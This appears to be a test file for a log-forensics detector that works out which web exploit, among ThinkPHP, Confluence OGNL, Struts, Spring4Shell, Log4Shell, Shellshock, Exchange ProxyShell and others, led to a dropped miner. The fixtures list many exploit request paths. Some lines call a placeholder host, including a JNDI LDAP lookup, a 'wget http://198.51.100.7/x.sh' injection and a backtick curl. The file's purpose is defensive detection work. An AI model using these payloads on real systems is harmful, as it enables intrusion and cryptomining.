import { describe, expect, test } from 'bun:test';
import { apacheError } from '../../formats/log/web/error-log.ts';
import { readLog } from '../../formats/log/web/web.fixture.ts';
import { printableText } from '../../model/text.ts';
import type { Scene } from '../scene.ts';
import { type Asked, attacker, fileOf, lineOf, minerOf, momentMs, sceneOf, show } from './web.fixture.ts';
import { WebExploitWatcher } from './web.ts';
import { webShapes } from './web-shapes.ts';

const dropped = (owner: string) => sceneOf({ files: [fileOf({ path: '/tmp/.x/kdevtmpfsi', owner })] });

function concluded(scene: Scene, ...asked: readonly Asked[]) {
  const watcher = new WebExploitWatcher();
  show(watcher, asked.map(lineOf));
  return watcher.conclude(scene);
}

/** A success of each shape, as it comes over the wire: id, owner of what is dropped, request. */
const successes: readonly (readonly [id: string, owner: string, asked: Asked])[] = [
  [
    'phpunit-eval-stdin',
    'www-data',
    { method: 'POST', target: '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php' },
  ],
  [
    'thinkphp-invoke',
    'www-data',
    {
      target:
        '/index.php?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=system',
    },
  ],
  ['thinkphp-construct', 'nginx', { method: 'POST', target: '/index.php?s=captcha' }],
  ['pearcmd', 'www-data', { target: '/index.php?lang=../../usr/local/lib/php/pearcmd&+config-create+/x' }],
  [
    'apache-traversal',
    'daemon',
    { method: 'POST', target: '/cgi-bin/.%%32%65/.%%32%65/.%%32%65/.%%32%65/bin/sh' },
  ],
  [
    'php-cgi-arguments',
    'apache',
    { method: 'POST', target: '/?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input' },
  ],
  [
    'drupalgeddon2',
    'www-data',
    { method: 'POST', target: '/user/register?element_parents=account/mail/%23value&ajax_form=1' },
  ],
  ['laravel-ignition', 'www-data', { method: 'POST', target: '/_ignition/execute-solution', status: 500 }],
  [
    'cacti-remote-agent',
    'www-data',
    { target: '/cacti/remote_agent.php?action=polldata&host_id=1&poller_id=%3Bid&local_data_ids[]=6' },
  ],
  [
    'wp-file-manager',
    'www-data',
    { method: 'POST', target: '/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php' },
  ],
  ['vbulletin-widget', 'www-data', { method: 'POST', target: '/ajax/render/widget_php' }],
  [
    'confluence-ognl',
    'confluence',
    { target: '/%24%7B%28%23a%3D%40org.apache.x%40toString%28%40java.lang.Runtime%29%29%7D/', status: 302 },
  ],
  [
    'struts-ognl',
    'tomcat9',
    { target: '/%24%7B%28%23_memberAccess%3D%40ognl.OgnlContext%40X%29%7D/actionChain1.action' },
  ],
  [
    'struts-redirect',
    'tomcat9',
    {
      target: '/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29%29%7D/actionChain1.action',
      status: 302,
    },
  ],
  [
    'confluence-webwork',
    'confluence',
    { method: 'POST', target: '/pages/createpage-entervariables.action?SpaceKey=x' },
  ],
  [
    'confluence-setup',
    'confluence',
    { method: 'POST', target: '/json/setup-restore.action?synchronous=true', status: 302 },
  ],
  [
    'confluence-bootstrap',
    'confluence',
    { target: '/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false' },
  ],
  ['confluence-template', 'confluence', { method: 'POST', target: '/template/aui/text-inline.vm' }],
  ['weblogic-wsat', 'oracle', { method: 'POST', target: '/wls-wsat/CoordinatorPortType', status: 500 }],
  ['weblogic-async', 'oracle', { method: 'POST', target: '/_async/AsyncResponseService', status: 202 }],
  [
    'weblogic-console',
    'weblogic',
    { method: 'POST', target: '/console/css/%252e%252e%252fconsole.portal', status: 302 },
  ],
  ['weblogic-ws-utc', 'weblogic', { target: '/ws_utc/css/config/keystore/1528617_x.jsp' }],
  [
    'spring4shell',
    'tomcat',
    { target: '/x?class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp' },
  ],
  ['spring-cloud-function', 'spark', { method: 'POST', target: '/functionRouter', status: 500 }],
  ['spring-gateway', 'tomcat', { method: 'POST', target: '/actuator/gateway/routes/x', status: 201 }],
  ['spark-do-as', 'spark', { target: '/?doAs=%60curl%20198.51.100.7%60', status: 403 }],
  ['solr', 'solr', { target: '/solr/core/select?q=1&wt=velocity&v.template=custom&v.template.custom=x' }],
  [
    'geoserver-eval',
    'geoserver',
    { target: '/geoserver/wfs?valueReference=exec(java.lang.Runtime.getRuntime(),%27x%27)', status: 400 },
  ],
  ['jenkins-script', 'jenkins', { method: 'POST', target: '/scriptText' }],
  [
    'jenkins-groovy',
    'jenkins',
    { target: '/securityRealm/user/admin/descriptorByName/x.groovy.Y/checkScript?value=x' },
  ],
  [
    'tomcat-manager',
    'tomcat',
    { method: 'POST', target: '/manager/html/upload?org.apache.catalina.filters.CSRF_NONCE=A' },
  ],
  ['tomcat-put', 'tomcat', { method: 'PUT', target: '/x.jsp/', status: 201 }],
  [
    'sap-metadata-uploader',
    'sidadm',
    { method: 'POST', target: '/developmentserver/metadatauploader?CONTENTTYPE=MODEL' },
  ],
  [
    'workspace-one',
    'horizon',
    { target: '/catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7b%22x%22%7d', status: 400 },
  ],
  [
    'ofbiz',
    'ofbiz',
    { method: 'POST', target: '/webtools/control/ProgramExport/?USERNAME=&requirePasswordChange=Y' },
  ],
  ['openfire-setup', 'openfire', { target: '/setup/setup-s/%u002e%u002e/%u002e%u002e/plugin-admin.jsp' }],
  [
    'zimbra-mbox-import',
    'zimbra',
    { method: 'POST', target: '/service/extension/backup/mboximport?account-name=admin', status: 401 },
  ],
  [
    'sharepoint-toolpane',
    'IUSR',
    { method: 'POST', target: '/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx' },
  ],
  ['chanjet-upload', 'IUSR', { method: 'POST', target: '/tplus/SM/SetupAccount/Upload.aspx?preload=1' }],
  [
    'chanjet-ajaxpro',
    'IUSR',
    {
      method: 'POST',
      target:
        '/tplus/ajaxpro/Ufida.T.CodeBehind._PriorityLevel,App_Code.ashx?method=GetStoreWarehouseByStore',
    },
  ],
  ['beanshell-servlet', 'tomcat', { method: 'POST', target: '/servlet/~ic/bsh.servlet.BshServlet' }],
  [
    'seeyon-wps-upload',
    'tomcat',
    {
      method: 'POST',
      target:
        '/seeyon/wpsAssistServlet?flag=save&realFileType=../../../../ApacheJetspeed/webapps/ROOT/x.jsp&fileId=2',
    },
  ],
  [
    'exchange-proxyshell',
    'IUSR',
    { method: 'POST', target: '/autodiscover/autodiscover.json?@x.example/powershell/?X-Rps-CAT=VgEA' },
  ],
  [
    'exchange-virtual-directory',
    'IUSR',
    {
      method: 'POST',
      target: '/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=x',
    },
  ],
];

const blind: typeof successes = [
  ['log4shell', 'tomcat', { target: '/', agent: `\${\${::-j}\${::-n}di:ldap://198.51.100.7/a}` }],
  ['log4shell', 'solr', { target: '/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D' }],
  ['shellshock', 'apache', { target: '/cgi-bin/status', agent: '() { :;}; echo' }],
  ['command-in-request', 'www-data', { target: '/x?y=1;wget%20http://198.51.100.7/x.sh' }],
  ['joomla-session', 'www-data', { target: '/', agent: 'x}__t|O:21:\\x22JDatabaseDriverMysqli\\x22:3:{}' }],
  ['redtail', 'www-data', { target: '/hello', method: 'POST', agent: 'libredtail-http' }],
];

describe('web applications that were broken into', () => {
  test.each(successes)('%s: the service, the address, the time and the grade', (id, owner, asked) => {
    const shape = webShapes.find((one) => one.id === id);
    if (shape === undefined) throw new Error(id);
    const ways = concluded(dropped(owner), asked);
    expect(ways).toHaveLength(1);
    expect(ways[0]).toMatchObject({
      vector: 'web-exploit',
      grade: shape.verified ? 'confirmed' : 'probable',
      service: shape.service,
      attackers: [attacker],
      account: owner,
      firstSuccessUs: momentMs * 1000,
      missing: shape.verified ? [] : ['shape-unverified'],
    });
    expect(ways[0]?.chain.map(({ step }) => step)).toEqual(['success', 'file']);
    expect(ways[0]?.chain[0]?.source.line).toBe(1);
  });

  test('every shape has its success here', () => {
    const shown = new Set([...successes, ...blind].map(([id]) => id));
    const ofWords = webShapes.filter(({ site }) => site === undefined);
    expect(ofWords.map(({ id }) => id).filter((id) => !shown.has(id))).toEqual([]);
  });

  test.each(blind)('%s: a status proves nothing, so it is probable and no more', (id, owner, asked) => {
    const ways = concluded(dropped(owner), asked);
    expect(ways[0]).toMatchObject({
      grade: 'probable',
      service: webShapes.find((one) => one.id === id)?.service,
      missing: ['no-success-logged'],
    });
    expect(concluded(dropped('root'), asked)).toEqual([]);
  });

  describe('a post to any page of a site of Next.js', () => {
    const page = { target: '/_next/static/chunks/main.js', ms: momentMs - 3_600_000, client: '192.0.2.4' };
    const post = { method: 'POST', target: '/', status: 303 };
    const byNode = sceneOf({
      files: [fileOf({ path: '/tmp/.x', owner: 'ubuntu' })],
      miners: [minerOf('ubuntu', ['/bin/sh', '/usr/bin/node'])],
    });

    test('is the door where a program of node follows, and no more than probable', () => {
      const [way] = concluded(byNode, page, post);
      expect(way).toMatchObject({
        grade: 'probable',
        service: 'nextjs',
        attackers: [attacker],
        missing: ['no-success-logged'],
      });
      expect(concluded(byNode, page, { ...post, status: 500 })).toHaveLength(1);
    });

    test('says so where another posted as well', () => {
      const [way] = concluded(byNode, page, { ...post, ms: momentMs - 60_000, client: '192.0.2.9' }, post);
      expect(way).toMatchObject({
        attackers: [attacker],
        missing: ['no-success-logged', 'several-candidates'],
      });
    });

    test.each([
      ['a site of something else', [{ ...page, target: '/main.js' }, post]],
      ['an answer that tells of nothing', [page, { ...post, status: 200 }]],
      ['what was refused', [page, { ...post, status: 403 }]],
      ['a hook of the application', [page, { ...post, target: '/api/webhook' }]],
      ['a file', [page, { ...post, target: '/upload.php' }]],
      ['a visit', [page, { ...post, method: 'GET' }]],
    ])('is not %s', (_, asked) => {
      expect(concluded(byNode, ...asked)).toEqual([]);
    });

    test('is not what a browser sends from a page, nor where the trace is not of node', () => {
      const watcher = new WebExploitWatcher();
      show(watcher, [
        lineOf(page),
        lineOf(post).replace('"-" "curl/8"', '"https://shop.example/" "Mozilla/5.0"'),
      ]);
      expect(watcher.conclude(byNode)).toEqual([]);
      expect(concluded(dropped('postgres'), page, post)).toEqual([]);
    });
  });

  test('what the server was made to say in its error log is a success', () => {
    const watcher = new WebExploitWatcher();
    show(watcher, [lineOf({ target: '/cgi-bin/status', agent: '() { :;}; x' })]);
    const said = '[Wed Jun 12 03:04:05 2024] [notice] x\n--2024-06-12 03:04:06--  http://198.51.100.7/x.sh\n';
    for (const event of readLog(apacheError, said).events) watcher.see(event);
    const [way] = watcher.conclude(dropped('apache'));
    expect(way).toMatchObject({ grade: 'confirmed', service: 'cgi' });
    expect(way?.chain.map(({ step }) => step)).toEqual(['success', 'command', 'file']);
  });

  test('a file of root that the service itself started is the service’s work; one of a person is not', () => {
    const asked: Asked = { method: 'POST', target: '/wls-wsat/CoordinatorPortType', status: 500 };
    const files = [fileOf({ path: '/tmp/x', owner: 'root' })];
    const child = sceneOf({ files, miners: [minerOf('root', ['/usr/bin/bash', '/opt/jdk/bin/java'])] });
    expect(concluded(child, asked)[0]).toMatchObject({ grade: 'confirmed' });
    const other = sceneOf({ files, miners: [minerOf('root', ['/usr/sbin/sshd'])] });
    expect(concluded(other, asked)[0]).toMatchObject({ grade: 'probable', missing: ['owner-differs'] });
  });

  test('behind a proxy the address is the one that the proxy adds', () => {
    const line = `${lineOf({ method: 'POST', target: '/template/aui/text-inline.vm', client: '172.17.0.1' })} "198.51.100.1, ${attacker}"`;
    const watcher = new WebExploitWatcher();
    show(watcher, [line]);
    expect(watcher.conclude(dropped('confluence'))[0]?.attackers).toEqual([printableText(attacker)]);
  });

  test('a day later, or by times that touch sets, it is no more than probable', () => {
    const asked: Asked = { method: 'POST', target: '/functionRouter', status: 500 };
    const late = fileOf({ path: '/tmp/x', owner: 'tomcat', changedUs: (momentMs + 7_200_000) * 1000 });
    expect(concluded(sceneOf({ files: [late] }), asked)[0]).toMatchObject({
      grade: 'probable',
      missing: ['no-file-within-minutes'],
    });
    const { changedUs: _, ...copied } = fileOf({
      path: '/tmp/x',
      owner: 'tomcat',
      modifiedUs: momentMs * 1000,
    });
    expect(concluded(sceneOf({ files: [copied] }), asked)[0]).toMatchObject({
      grade: 'probable',
      missing: ['no-inode-times'],
    });
    const weeks = fileOf({ path: '/tmp/x', owner: 'tomcat', changedUs: (momentMs + 14 * 86_400_000) * 1000 });
    expect(concluded(sceneOf({ files: [weeks] }), asked)).toEqual([]);
  });

  test('nothing on disk: the miner that the service started is the trace', () => {
    const scene = sceneOf({ miners: [minerOf('solr', ['/usr/bin/java'])] });
    const asked: Asked = { target: '/solr/c/select?v.template=custom&v.template.custom=x' };
    expect(concluded(scene, asked)[0]).toMatchObject({ grade: 'confirmed', service: 'solr' });
  });
});

describe('honest sites', () => {
  const noise = (status: number): readonly Asked[] =>
    [...successes, ...blind].flatMap(([, , asked], index) => [
      { ...asked, status, size: 150 + index, client: `198.51.100.${index}`, ms: momentMs - index * 1000 },
    ]);

  test.each([404, 403, 301])('scans that end with %d are no door, and are counted', (status) => {
    const asked = noise(status).filter(({ target }) => !(status === 403 && target.includes('doAs')));
    const watcher = new WebExploitWatcher();
    show(watcher, asked.map(lineOf));
    expect(watcher.conclude(dropped('www-data'))).toEqual([]);
    expect(watcher.conclude(dropped('tomcat'))).toEqual([]);
    const counted = watcher.excluded();
    expect(new Set(counted.map((one) => one.status))).toEqual(new Set([status]));
    expect(counted.find(({ what }) => what === 'log4shell')?.count).toBe(2);
    expect(counted.reduce((sum, { count }) => sum + count, 0)).toBeGreaterThanOrEqual(asked.length);
  });

  test('a host without a trace has no way in, whatever is asked and answered', () => {
    expect(concluded(sceneOf(), ...noise(200))).toEqual([]);
  });

  test('ordinary requests have no shape', () => {
    const watcher = new WebExploitWatcher();
    const targets = [
      '/',
      '/index.php?s=hello+world',
      '/search?q=how+to+curl+http://example.com',
      '/blog/thinking-in-%C3%A9t%C3%A9?page=2',
      '/scripts/app.js',
      '/solr-panels/?v=1',
      '/docs/wget.html',
      '/a?b=100%25',
      '/price?%7Bname%7D=$5',
      '/pages/viewpage.action?pageId=1',
      '/wp-json/wp/v2/posts?_method=GET',
      '/api?expr=$%7Bvalue%7D',
    ];
    show(
      watcher,
      targets.flatMap((target) => ['GET', 'POST'].map((method) => lineOf({ method, target, status: 404 }))),
    );
    expect(watcher.excluded()).toEqual([]);
  });

  test('a site that answers everything alike let nobody in by its answer', () => {
    const asked = noise(200).map((one) => ({ ...one, size: 5120 }));
    // Somebody came in through SSH: the file is his.
    expect(concluded(dropped('ubuntu'), ...asked)).toEqual([]);
    // Something was left by the service: which door it was the answers cannot tell.
    for (const way of concluded(dropped('www-data'), ...asked)) {
      expect(way.grade).toBe('probable');
      expect(way.missing).toContain('no-success-logged');
    }
  });

  test('the front page that ignores its query, and one answer on many paths, are no success', () => {
    const scene = dropped('ubuntu');
    const invoke: Asked = { target: '/index.php?s=/index/%5Cthink%5Capp/invokefunction', size: 5120 };
    expect(concluded(scene, invoke)[0]?.grade).toBe('probable');
    expect(concluded(scene, { target: '/', size: 5120, client: '198.51.100.3' }, invoke)).toEqual([]);
    const paths = ['/vendor', '/lib', '/laravel/vendor'].map(
      (folder): Asked => ({ target: `${folder}/phpunit/src/Util/PHP/eval-stdin.php`, size: 5120 }),
    );
    expect(concluded(scene, ...paths)).toEqual([]);
    // Only one of them is there: that one let somebody in.
    const [first, ...others] = paths.map((asked, index) => (index === 0 ? asked : { ...asked, status: 404 }));
    if (first === undefined) throw new Error('no path');
    expect(concluded(dropped('www-data'), first, ...others)[0]).toMatchObject({ grade: 'confirmed' });
  });

  test('noise that came by beside a real success is not named', () => {
    const headers: Asked = { target: '/', agent: `\${jndi:ldap://198.51.100.7/a}`, client: '198.51.100.20' };
    const real: Asked = { method: 'POST', target: '/manager/text/deploy?path=/x' };
    const ways = concluded(dropped('tomcat'), headers, real);
    expect(ways.map(({ service }) => service)).toEqual(['tomcat']);
    expect(ways[0]?.attackers).toEqual([printableText(attacker)]);
  });
});

describe('hostile logs', () => {
  test('the payload behind a request of a megabyte, escapes without end, and odd bytes do no harm', () => {
    const watcher = new WebExploitWatcher();
    const long = [
      `/${'%25'.repeat(30_000)}`,
      `/?doAs=${'`'.repeat(60_000)}`,
      `/${'${'.repeat(4000)}`,
      `/solr/${'/solr/'.repeat(1300)}`,
      `/x?${';wget '.repeat(1300)}`,
      `/${'%u'.repeat(4000)}${'%'.repeat(100)}%`,
      `/\xc0\xaf\xe0\x80\xff${'\xc0'.repeat(100)}`,
      `/${'a'.repeat(1_000_000)}\${jndi:ldap://198.51.100.7}`,
    ];
    show(
      watcher,
      long.map((target) => lineOf({ target })),
    );
    expect(watcher.conclude(sceneOf())).toEqual([]);
  });

  test('a success is found in the midst of a flood, and little is kept of it', () => {
    const watcher = new WebExploitWatcher();
    const [, , asked] = successes[0] ?? [];
    if (asked === undefined) throw new Error('no shape');
    const days = Array.from({ length: 20_000 }, (_, index) =>
      lineOf({ ...asked, ms: momentMs - index * 60_000, client: `198.51.100.${index % 200}` }),
    );
    show(watcher, [...days.toReversed(), lineOf(asked)]);
    const [way] = watcher.conclude(dropped('www-data'));
    expect(way).toMatchObject({ grade: 'confirmed', service: 'phpunit' });
    expect(way?.attackers).toContain(printableText(attacker));
    expect(way?.attackers.length).toBeLessThanOrEqual(100);
  });

  test('mutated lines of a success never name another door', () => {
    const line = lineOf({ method: 'POST', target: '/template/aui/text-inline.vm' });
    for (let at = 0; at < line.length; at += 3) {
      for (const byte of ['"', '%', '\\', '\x00', ' ']) {
        const watcher = new WebExploitWatcher();
        show(watcher, [line.slice(0, at) + byte + line.slice(at + 1)]);
        for (const way of watcher.conclude(dropped('confluence'))) expect(way.service).toBe('confluence');
      }
    }
  });

  test('an agent that quotes a success is an agent', () => {
    const agent = `\\x22 200 1\\x0A203.0.113.9 - - [12/Jun/2024:03:04:05 +0000] \\x22POST /template/aui/text-inline.vm HTTP/1.1\\x22 200 5`;
    expect(concluded(dropped('confluence'), { target: '/', status: 404, agent })).toEqual([]);
    expect(concluded(dropped('confluence'), { target: '/', status: 200, agent })).toEqual([]);
  });
});
